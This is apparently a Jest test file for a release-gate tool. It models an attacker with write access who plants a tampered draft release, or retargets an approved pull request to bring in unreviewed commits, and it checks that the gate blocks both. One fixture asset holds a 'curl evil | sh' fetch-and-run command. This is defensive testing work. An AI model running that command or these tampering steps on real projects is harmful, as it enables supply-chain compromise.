/**
 * The release gate as someone with write access would attack it. Each test is an attack that
 * once got something nobody approved into a published release; it must now fail.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { APPROVER, AUTHOR, OUTSIDER, codes, useWorld } from './release-world.js';

const world = useWorld();
let workspace: string;
const sha256 = (text: string) => `sha256:${createHash('sha256').update(text).digest('hex')}`;

beforeAll(() => {
  workspace = mkdtempSync(path.join(os.tmpdir(), 'tollgate-attacks-'));
  mkdirSync(path.join(workspace, 'dist'), { recursive: true });
  writeFileSync(path.join(workspace, 'dist/shop-linux.tgz'), 'linux build');
});
afterAll(() => rmSync(workspace, { recursive: true, force: true }));
beforeEach(() => {
  world.repo.setPermission(OUTSIDER, 'write');
});

/** Mallory, with write access, prepares a draft for the next tag and uploads her own files to it. */
function plantDraft(assets: Array<{ name: string; data: string }>) {
  const draft = world.repo.addRelease({ tag_name: 'v1.1.0', by: OUTSIDER, draft: true, target_commitish: 'main', body: 'Release notes' });
  const acting = world.gh.state.acting({ by: OUTSIDER });
  for (const asset of assets) world.repo.uploadAsset(draft, { name: asset.name, contentType: 'application/gzip', data: Buffer.from(asset.data) }, acting);
  world.gh.clearLog();
  return draft;
}

describe('a draft someone else prepared for the tag', () => {
  it('with files: an asset of the same name and size but other bytes is replaced, and assets files does not name are removed, before publishing', async () => {
    world.approvedPr('Add gift cards');
    // Same name, same size (11 bytes) as the real build, other content; and a file of her own.
    plantDraft([
      { name: 'shop-linux.tgz', data: 'evil build!' },
      { name: 'install.sh', data: 'curl evil | sh' }
    ]);

    const run = await world.release({ files: 'dist/*.tgz' }, { env: { GITHUB_WORKSPACE: workspace } });

    expect(run.exitCode).toBe(0);
    expect(run.outputs['decision']).toBe('released');
    const [release] = world.releases('v1.1.0');
    expect(release).toMatchObject({ draft: false });
    expect(release!.assets.map((a) => [a.name, a.digest])).toEqual([['shop-linux.tgz', sha256('linux build')]]);
  });

  it('without files: a draft carrying assets this run did not upload is not published, and the step says why', async () => {
    world.approvedPr('Add gift cards');
    const draft = plantDraft([{ name: 'shop-linux.tgz', data: 'evil build!' }]);

    const run = await world.release({});

    expect(world.releases('v1.1.0').filter((r) => !r.draft)).toEqual([]);
    expect(draft.draft).toBe(true);
    expect(run.exitCode).toBe(1);
    expect(run.errors.join('\n')).toContain(`Draft release ${draft.id} (v1.1.0) carries assets this run did not upload (shop-linux.tgz)`);
  });
});

describe('an approval, then the pull request is pointed at another base', () => {
  it('changing the base after the approval brings in commits nobody approved: the approval is stale, as after a push', async () => {
    // Mallory pushes an unreviewed commit to develop; Carol's pull request into develop brings only a typo fix.
    world.repo.branch('develop', world.target);
    world.repo.commit({ branch: 'develop', message: 'Disable the payment limit', author: OUTSIDER, files: ['src/payments.ts'] });
    world.tick();
    world.repo.branch('topic', world.repo.tip('develop'));
    const pr = world.repo.openPullRequest({ author: AUTHOR, title: 'Fix a typo', base: 'develop', head: 'topic', commits: 1, files: ['docs/typo.md'] });
    world.tick();
    world.label(pr, 'release-approved', APPROVER);
    // Then she points it at main, where it now also brings her commit, and merges it: no push happened.
    world.repo.changeBase(pr, 'main', { by: OUTSIDER });
    world.tick();
    world.repo.merge(pr, { by: OUTSIDER, method: 'merge' });
    world.tick();

    const run = await world.release({});

    expect(run.outputs).toMatchObject({ decision: 'blocked', released: 'false' });
    expect(codes(run)).toEqual(['stale-approval', 'missing-approval']);
    expect(run.reasons[0]?.message).toContain(`base branch changed from develop to main by @${OUTSIDER}`);
    expect(world.releaseWrites()).toEqual([]);
  });

  it('an approval given after the base change counts: the approver saw what the pull request now brings', async () => {
    world.repo.branch('develop', world.target);
    world.repo.branch('topic', world.repo.tip('develop'));
    const pr = world.repo.openPullRequest({ author: AUTHOR, title: 'Fix a typo', base: 'develop', head: 'topic', commits: 1, files: ['docs/typo.md'] });
    world.tick();
    world.repo.changeBase(pr, 'main', { by: AUTHOR });
    world.tick();
    world.label(pr, 'release-approved', APPROVER);
    world.repo.merge(pr, { by: APPROVER, method: 'merge' });
    world.tick();

    const run = await world.release({});

    expect(run.outputs).toMatchObject({ decision: 'released', released: 'true' });
  });
});
